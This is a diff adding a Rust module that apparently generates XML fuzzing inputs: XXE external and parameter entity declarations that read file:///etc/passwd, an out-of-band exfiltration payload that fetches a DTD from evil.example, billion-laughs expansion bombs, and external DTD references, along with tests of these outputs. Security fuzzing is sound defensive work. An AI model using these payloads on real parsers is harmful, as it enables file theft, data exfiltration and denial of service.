@@ -0,0 +1,134 @@
+use super::super::helper::{pick, FINAL};
+use super::{depth, EXTERNAL_URIS};
+use crate::state_machine::{Automaton, AutomatonNode};
+
+lazy_static! {
+    static ref START_DOCTYPE: AutomatonNode<String> =
+        AutomatonNode::<String>::new().set_edges(vec![
+            (3, &DECLARE_EXTERNAL_ENTITY),
+            (2, &DECLARE_PARAMETER_ENTITY),
+            (3, &BILLION_LAUGHS),
+            (2, &EXTERNAL_DTD),
+        ]);
+    // external entities, which are replaced by the contents of local files
+    // wherever "&xxe;" is referenced (XXE)
+    static ref DECLARE_EXTERNAL_ENTITY: AutomatonNode<String> = AutomatonNode::<String>::new()
+        .set_func(|seed, doctype| {
+            let uri = pick(seed / 2, &EXTERNAL_URIS);
+            let declaration = match seed % 2 {
+                0 => format!("<!ENTITY xxe SYSTEM \"{}\">", uri),
+                _ => format!("<!ENTITY xxe PUBLIC \"-//A//B\" \"{}\">", uri),
+            };
+            declare(&doctype, &declaration)
+        })
+        .set_edges(vec![(3, &FINAL), (1, &MORE_DOCTYPE)]);
+    // parameter entities, which are resolved while the DTD itself is
+    // parsed, so they don't have to be referenced by the document
+    static ref DECLARE_PARAMETER_ENTITY: AutomatonNode<String> = AutomatonNode::<String>::new()
+        .set_func(|seed, doctype| {
+            let declarations = match seed % 3 {
+                0 => format!("<!ENTITY % xxe SYSTEM \"{}\">%xxe;", pick(seed / 3, &EXTERNAL_URIS)),
+                // out-of-band exfiltration through an external DTD
+                1 => String::from("<!ENTITY % file SYSTEM \"file:///etc/passwd\"><!ENTITY % dtd SYSTEM \"http://evil.example/evil.dtd\">%dtd;"),
+                _ => String::from("<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'file:///etc/passwd'>\">%a;%b;"),
+            };
+            declare(&doctype, &declarations)
+        })
+        .set_edges(vec![(3, &FINAL), (1, &MORE_DOCTYPE)]);
+    // entities which expand exponentially, quadratically or recursively,
+    // all of which are referenced by "&lol9;"
+    static ref BILLION_LAUGHS: AutomatonNode<String> = AutomatonNode::<String>::new()
+        .set_func(|seed, doctype| {
+            let declarations = match seed % 4 {
+                0 => (1..10).fold(String::from("<!ENTITY lol0 \"lol\">"), |declarations, level| {
+                    format!("{}<!ENTITY lol{} \"{}\">", declarations, level, format!("&lol{};", level - 1).repeat(10))
+                }),
+                1 => format!("<!ENTITY lol9 \"{}\">", "lol".repeat(depth(seed / 4) * 10)),
+                2 => String::from("<!ENTITY lol8 \"&lol9;\"><!ENTITY lol9 \"&lol8;\">"),
+                _ => String::from("<!ENTITY lol9 \"&lol9;\">"),
+            };
+            declare(&doctype, &declarations)
+        });
+    // DTDs which are fetched from local files or remote hosts
+    static ref EXTERNAL_DTD: AutomatonNode<String> = AutomatonNode::<String>::new()
+        .set_func(|seed, doctype| {
+            let name = doctype
+                .trim_start_matches("<!DOCTYPE")
+                .split(|ch: char| ch.is_whitespace() || ch == '[' || ch == '>')
+                .find(|name| !name.is_empty())
+                .unwrap_or("root");
+            let subset = match doctype.find('[') {
+                Some(start) => &doctype[start..],
+                None => ">",
+            };
+            let uri = pick(seed / 2, &EXTERNAL_URIS);
+            match seed % 2 {
+                0 => format!("<!DOCTYPE {} SYSTEM \"{}\"{}", name, uri, subset),
+                _ => format!("<!DOCTYPE {} PUBLIC \"-//A//B\" \"{}\"{}", name, uri, subset),
+            }
+        })
+        .set_edges(vec![(3, &FINAL), (1, &MORE_DOCTYPE)]);
+    static ref MORE_DOCTYPE: AutomatonNode<String> =
+        AutomatonNode::<String>::new().set_cycle(2);
+    pub static ref DOCTYPE_AUTOMATON: Automaton<String> = Automaton::<String> {
+        name: "xml::doctype",
+        initial_node: &START_DOCTYPE,
+        generator: |seed| String::from(pick(seed, &[
+            "<!DOCTYPE root>",
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
+            "<!DOCTYPE note [<!ENTITY writer \"Writer\">]>",
+        ])),
+    };
+}
+
+/// Adds declarations to the internal subset of a DOCTYPE, which is added if
+/// there isn't one
+fn declare(doctype: &str, declarations: &str) -> String {
+    let end = doctype.trim_end_matches('>').trim_end();
+    match end.strip_suffix(']') {
+        Some(subset) => format!("{}{}]>", subset, declarations),
+        None => format!("{} [{}]>", end, declarations),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::DOCTYPE_AUTOMATON;
+    use itertools::Itertools;
+
+    lazy_static! {
+        static ref TEST_FUZZ_VALUES: Vec<String> = (1..300)
+            .map(|i| DOCTYPE_AUTOMATON.traverse(String::from("<!DOCTYPE root>"), i))
+            .sorted()
+            .dedup()
+            .collect();
+    }
+
+    #[test]
+    fn external_entities_are_declared() {
+        assert!(TEST_FUZZ_VALUES
+            .iter()
+            .any(|value| value == "<!DOCTYPE root [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"));
+        assert!(TEST_FUZZ_VALUES
+            .iter()
+            .any(|value| value == "<!DOCTYPE root SYSTEM \"file:///etc/passwd\">"));
+    }
+
+    #[test]
+    fn entities_are_expanded_exponentially() {
+        assert!(TEST_FUZZ_VALUES
+            .iter()
+            .any(|value| value.contains(&format!("<!ENTITY lol9 \"{}\">", "&lol8;".repeat(10)))));
+        assert!(TEST_FUZZ_VALUES
+            .iter()
+            .any(|value| value == "<!DOCTYPE root [<!ENTITY lol9 \"&lol9;\">]>"));
+    }
+
+    #[test]
+    fn internal_subsets_are_kept() {
+        let doctype = "<!DOCTYPE note [<!ENTITY writer \"Writer\">]>";
+        assert!((1..100)
+            .map(|i| DOCTYPE_AUTOMATON.traverse(String::from(doctype), i))
+            .all(|value| value.contains("<!ENTITY writer \"Writer\">")));
+    }
+}